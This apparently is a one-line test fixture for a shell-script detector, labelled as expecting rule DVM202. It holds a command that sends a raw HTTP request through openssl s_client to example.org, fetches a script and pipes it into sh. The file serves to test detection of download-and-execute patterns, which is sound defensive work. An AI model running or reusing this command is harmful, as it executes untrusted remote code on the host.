# expect: DVM202
printf "GET /i.sh HTTP/1.0\r\n\r\n" | openssl s_client -quiet -connect example.org:443 | sh
